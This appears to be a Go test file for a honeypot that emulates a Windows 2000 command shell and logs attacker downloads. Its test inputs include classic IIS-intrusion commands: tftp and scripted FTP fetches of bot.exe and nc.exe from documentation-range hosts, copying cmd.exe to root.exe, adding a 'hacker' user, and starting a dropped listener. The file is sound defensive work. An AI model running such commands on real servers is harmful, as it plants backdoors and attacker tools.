package shell

import (
	"reflect"
	"strings"
	"testing"
	"time"
)

var testNow = time.Date(2001, 9, 18, 13, 45, 0, 0, time.UTC)

func newCmdShell(cwd string) *Shell {
	d := &Cmd{Hostname: "WEBSERVER", Address: "192.0.2.10"}
	st := d.NewState(NewFS(Win2000Tree(WinOptions{})), cwd)
	st.Now = func() time.Time { return testNow }
	return &Shell{Dialect: d, State: st}
}

// crlf writes expected output readably.
func crlf(s string) string { return strings.ReplaceAll(s, "\n", "\r\n") }

func TestCmdOutputs(t *testing.T) {
	tests := []struct {
		line  string
		out   string
		known bool
	}{
		{`dir`, crlf(` Volume in drive C has no label.
 Volume Serial Number is 3C5E-12F4

 Directory of c:\inetpub\scripts

06/21/2001  09:32a      <DIR>          .
06/21/2001  09:32a      <DIR>          ..
               0 File(s)              0 bytes
               2 Dir(s)   3,215,106,048 bytes free
`), true},
		{`dir c:\`, crlf(` Volume in drive C has no label.
 Volume Serial Number is 3C5E-12F4

 Directory of c:\

06/21/2001  09:32a                   0 AUTOEXEC.BAT
06/21/2001  09:32a                   0 CONFIG.SYS
06/21/2001  09:32a      <DIR>          Documents and Settings
06/21/2001  09:32a      <DIR>          Inetpub
06/21/2001  09:32a      <DIR>          Program Files
06/21/2001  09:32a      <DIR>          WINNT
               2 File(s)              0 bytes
               4 Dir(s)   3,215,106,048 bytes free
`), true},
		{`dir /b c:\winnt\system32\t*.exe`, crlf("telnet.exe\ntftp.exe\n"), true},
		{`dir c:\nosuch`, crlf(` Volume in drive C has no label.
 Volume Serial Number is 3C5E-12F4

 Directory of c:\

File Not Found
`), true},
		{`dir q:\`, crlf("The system cannot find the path specified.\n"), true},
		{`ver`, crlf("\nMicrosoft Windows 2000 [Version 5.00.2195]\n"), true},
		{`echo hello  world`, crlf("hello  world\n"), true},
		{`echo.`, crlf("\n"), true},
		{`echo`, crlf("ECHO is on.\n"), true},
		{`echo %COMPUTERNAME% %NOPE%`, crlf("WEBSERVER %NOPE%\n"), true},
		{`type c:\winnt\win.ini`, crlf("; for 16-bit app support\n[fonts]\n[extensions]\n[mci extensions]\n[files]\n[Mail]\nMAPI=1\n"), true},
		{`type c:\nosuch.txt`, crlf("The system cannot find the file specified.\n"), true},
		{`cd`, crlf("c:\\inetpub\\scripts\n"), true},
		{`cd \winnt\system32 & cd`, crlf("c:\\winnt\\system32\n"), true},
		{`cd c:\nosuch`, crlf("The system cannot find the path specified.\n"), true},
		{`whoami`, crlf("'whoami' is not recognized as an internal or external command,\noperable program or batch file.\n"), false},
		{`hostname`, crlf("WEBSERVER\n"), true},
		{`net user hacker p4ss /add`, crlf("System error 5 has occurred.\n\nAccess is denied.\n\n"), true},
		{`copy c:\winnt\system32\cmd.exe root.exe`, crlf("        1 file(s) copied.\n"), true},
		{`copy nosuch.exe x.exe`, crlf("The system cannot find the file specified.\n        0 file(s) copied.\n"), true},
		{`del nosuch.exe`, crlf("Could Not Find c:\\inetpub\\scripts\\nosuch.exe\n"), true},
		{`nosuch || echo failed`, crlf("'nosuch' is not recognized as an internal or external command,\noperable program or batch file.\nfailed\n"), false},
		{`ver && echo ok`, crlf("\nMicrosoft Windows 2000 [Version 5.00.2195]\nok\n"), true},
		{`ver || echo not shown`, crlf("\nMicrosoft Windows 2000 [Version 5.00.2195]\n"), true},
		{`cmd /c "echo a & echo b"`, crlf("a \nb\n"), true},
		{`c:\winnt\system32\cmd.exe /c ver`, crlf("\nMicrosoft Windows 2000 [Version 5.00.2195]\n"), true},
		{`& dir`, crlf("& was unexpected at this time.\n"), false},
		{`tftp`, "", true}, // usage text, checked below by prefix
		{`ping 192.0.2.1 | find "Reply" | find /c "x"`, "", true},
		{`echo x > c:\nosuch\y`, crlf("The system cannot find the path specified.\n"), true},
		{`md a\b & cd a\b & cd`, crlf("c:\\inetpub\\scripts\\a\\b\n"), true},
		{`date /t`, crlf("Tue 09/18/2001 \n"), true},
		{`time /t`, crlf("01:45p\n"), true},
	}
	for _, tt := range tests {
		sh := newCmdShell(`c:\inetpub\scripts`)
		ex := sh.Exec(tt.line)
		if tt.line == "tftp" {
			if !strings.HasPrefix(ex.Output, "\r\nTransfers files to and from a remote computer") {
				t.Errorf("tftp usage: %q", ex.Output)
			}
			continue
		}
		if tt.out != "" && ex.Output != tt.out {
			t.Errorf("%s:\n got %q\nwant %q", tt.line, ex.Output, tt.out)
		}
		if ex.Known != tt.known {
			t.Errorf("%s: known %v, want %v", tt.line, ex.Known, tt.known)
		}
	}
}

func TestCmdDownloads(t *testing.T) {
	tests := []struct {
		line string
		want []Download
	}{
		{`tftp -i 192.0.2.7 GET Admin.dll c:\Admin.dll`, []Download{{URL: "tftp://192.0.2.7/Admin.dll", Protocol: "tftp", Host: "192.0.2.7", Path: "/Admin.dll"}}},
		{`tftp -i 192.0.2.7 get dir\bot.exe`, []Download{{URL: "tftp://192.0.2.7/dir/bot.exe", Protocol: "tftp", Host: "192.0.2.7", Path: "/dir/bot.exe"}}},
		{`tftp -i 192.0.2.7 PUT c:\boot.ini`, nil},
		{`echo open 192.0.2.8 2121> s & echo user a b>> s & echo binary>> s & echo get nc.exe>> s & echo bye>> s & ftp -n -s:s`,
			[]Download{{URL: "ftp://192.0.2.8:2121/nc.exe", Protocol: "ftp", Host: "192.0.2.8:2121", Path: "/nc.exe"}}},
		{`ftp -s:nosuch`, nil},
		{`echo http://192.0.2.9/x.exe & start HTTP://192.0.2.9/x.exe?a=1`, []Download{
			{URL: "http://192.0.2.9/x.exe", Protocol: "http", Host: "192.0.2.9", Path: "/x.exe"},
			{URL: "HTTP://192.0.2.9/x.exe?a=1", Protocol: "http", Host: "192.0.2.9", Path: "/x.exe?a=1"}}},
		{`echo http:// nothing`, nil},
		{`echo o.Open "GET", "http://192.0.2.9/x.exe", False >> d.vbs & echo see http://192.0.2.9/y.`, []Download{
			{URL: "http://192.0.2.9/x.exe", Protocol: "http", Host: "192.0.2.9", Path: "/x.exe"},
			{URL: "http://192.0.2.9/y", Protocol: "http", Host: "192.0.2.9", Path: "/y"}}},
		{"echo \xe7\u212aHTTP://192.0.2.9/a", []Download{{URL: "HTTP://192.0.2.9/a", Protocol: "http", Host: "192.0.2.9", Path: "/a"}}},
	}
	for _, tt := range tests {
		ex := newCmdShell(`c:\inetpub\scripts`).Exec(tt.line)
		if !reflect.DeepEqual(ex.Downloads, tt.want) {
			t.Errorf("%s:\n got %+v\nwant %+v", tt.line, ex.Downloads, tt.want)
		}
	}
}

// What one command leaves on the fake disk, the next one finds.
func TestCmdStateCarries(t *testing.T) {
	sh := newCmdShell(`c:\inetpub\scripts`)
	sh.Exec(`tftp -i 192.0.2.7 GET Admin.dll c:\Admin.dll`)
	ex := sh.Exec(`dir /b c:\a*.dll`)
	if ex.Output != "Admin.dll\r\n" {
		t.Errorf("after tftp: dir shows %q", ex.Output)
	}
	sh.Exec(`copy \winnt\system32\cmd.exe c:\inetpub\scripts\sensepost.exe`)
	if ex := sh.Exec(`sensepost.exe /c ver`); !strings.Contains(ex.Output, "Windows 2000") {
		t.Errorf("a copy of cmd.exe should still be cmd: %q", ex.Output)
	}
	sh.Exec(`echo line1> notes.txt & echo line2>> notes.txt`)
	// As in cmd, the blank before '&' is part of what echo prints.
	if ex := sh.Exec(`type notes.txt`); ex.Output != "line1 \r\nline2\r\n" {
		t.Errorf("type after echo: %q", ex.Output)
	}
	sh.Exec(`ren notes.txt n.txt & del c:\Admin.dll`)
	if ex := sh.Exec(`dir /b`); ex.Output != "n.txt\r\nsensepost.exe\r\n" {
		t.Errorf("after ren and del: %q", ex.Output)
	}
	if ex := sh.Exec(`dir /b c:\a*.dll`); ex.Output != "File Not Found\r\n" {
		t.Errorf("Admin.dll after del: %q", ex.Output)
	}
	// A program dropped by the attacker runs silently and is not known.
	sh.Exec(`tftp -i 192.0.2.7 GET x.exe`)
	if ex := sh.Exec(`x.exe -l -p 99`); ex.Output != "" || ex.Known {
		t.Errorf("dropped program: %q known=%v", ex.Output, ex.Known)
	}
	sh.Exec(`set FOO=bar`)
	if ex := sh.Exec(`echo %foo%`); ex.Output != "bar\r\n" {
		t.Errorf("set then echo: %q", ex.Output)
	}
}

func TestWinResolve(t *testing.T) {
	cwd := []string{"c:", "inetpub", "scripts"}
	for _, tt := range []struct {
		name string
		want []string
	}{
		{`..\..\winnt`, []string{"c:", "winnt"}},
		{`..\..\..\..\winnt`, []string{"c:", "winnt"}},
		{`\boot.ini`, []string{"c:", "boot.ini"}},
		{`d:\x`, []string{"d:", "x"}},
		{`c:x`, []string{"c:", "inetpub", "scripts", "x"}},
		{`a/b\.\c...`, []string{"c:", "inetpub", "scripts", "a", "b", "c"}},
		{`...`, []string{"c:", "inetpub", "scripts"}},
	} {
		if got := WinResolve(cwd, tt.name); !reflect.DeepEqual(got, tt.want) {
			t.Errorf("WinResolve(%q) = %q, want %q", tt.name, got, tt.want)
		}
	}
}

func TestWildMatch(t *testing.T) {
	for _, tt := range []struct {
		pat, name string
		want      bool
	}{
		{"*.exe", "CMD.EXE", true},
		{"*.exe", "cmd.dll", false},
		{"c?d.*", "cmd.exe", true},
		{"*.*", "noext", true},
		{"a*b*c", "axxbyyc", true},
		{"a*b*c", "axxbyy", false},
		{strings.Repeat("*a", 30), strings.Repeat("a", 29) + "b", false},
	} {
		if got := wildMatch(tt.pat, tt.name); got != tt.want {
			t.Errorf("wildMatch(%q, %q) = %v, want %v", tt.pat, tt.name, got, tt.want)
		}
	}
}
